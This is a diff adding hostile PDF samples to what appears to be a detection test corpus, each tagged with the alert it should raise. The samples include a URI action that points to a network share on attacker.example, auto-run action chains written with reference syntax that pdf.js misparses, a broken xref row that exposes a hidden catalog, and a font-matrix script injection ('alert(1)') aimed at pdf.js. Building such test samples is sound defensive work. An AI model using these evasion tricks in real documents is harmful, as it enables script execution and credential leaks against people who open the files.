@@ -700,6 +700,9 @@ const linkPdfs: CorpusItem[] = [
   ),
   linkItem('pdf-gotor-utf16-right-to-left-override-before-share', () =>
     buildPdf(linkAnnotations(`<< /S /GoToR /F ${utf16Hex('\u202e\\\\attacker.example\\share\\x.pdf')} >>`)),
+  ), // Round 13: a /URI written as a name, which pdf.js reads as `/` and the name and PDFium as the name.
+  linkItem('pdf-uri-name-share', () =>
+    buildPdf(linkAnnotations('<< /S /URI /URI /#5C#5Cattacker.example#5Cshare#5Cx.pdf >>')),
   ),
 ];
 
@@ -945,6 +948,44 @@ const huntedPdfs: CorpusItem[] = [
         body: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix 6 0 R /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [0] >>',
       },
       { num: 6, body: '[0.001 0 0 0.001 0 (0\\); alert\\(1\\))]' },
+    ]),
+  ),
+  // Round 13: a reference written `+9 0 R` or `9.0 0 R` (pdf.js takes integers by value, the standard
+  // a signed integer): the opening /Next list, packed under ASCIIHex and Flate, names an action an update brings.
+  hunted('pdf-openaction-next-signed-reference-update', 'PDF_ACTION', () =>
+    incrementalUpdateXrefStream(
+      buildPdf(
+        [...pageObjects('/OpenAction 6 0 R'), { num: 6, body: '<< /S /GoTo /D [3 0 R /Fit] /Next [+9 0 R] >>' }],
+        {
+          packed: [1, 6],
+          packing: 'ahx-flate',
+        },
+      ),
+      [{ num: 9, body: URI_ACTION }],
+    ),
+  ),
+  // A table row whose `n` runs into the next row: pdf.js reads the keyword `n0000000065`, refuses
+  // the table and rebuilds the file, taking the catalog hidden in an image with its opening script.
+  hunted('pdf-table-row-run-together-hidden-catalog', 'PDF_UNREADABLE', () => {
+    const file = rebuiltFromStreamDataPdf('/Root 1 0 R').toString('latin1');
+    const table = file.lastIndexOf('\nxref');
+    return Buffer.from(file.slice(0, table) + file.slice(table).replace(' 00000 n \n', ' 00000 n'), 'latin1');
+  }),
+  // pdf.js's lexer ends a number at any byte that is not one: `0R` is 0 and the keyword R.
+  hunted('pdf-openaction-next-reference-run-together', 'PDF_ACTION', () =>
+    buildClassicPdf([
+      ...pageObjects('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [9 0R] >>'),
+      { num: 9, body: URI_ACTION },
+    ]),
+  ),
+  hunted('pdf-font-matrix-fractional-reference', 'PDF_SCRIPT', () =>
+    buildClassicPdf([
+      ...pageObjects().filter((o) => o.num !== 5),
+      {
+        num: 5,
+        body: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [0.001 0 0 0.001 0 6.0 0 R] /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [0] >>',
+      },
+      { num: 6, body: '(0\\); alert\\(1\\))' },
     ]),
   ),
 ];
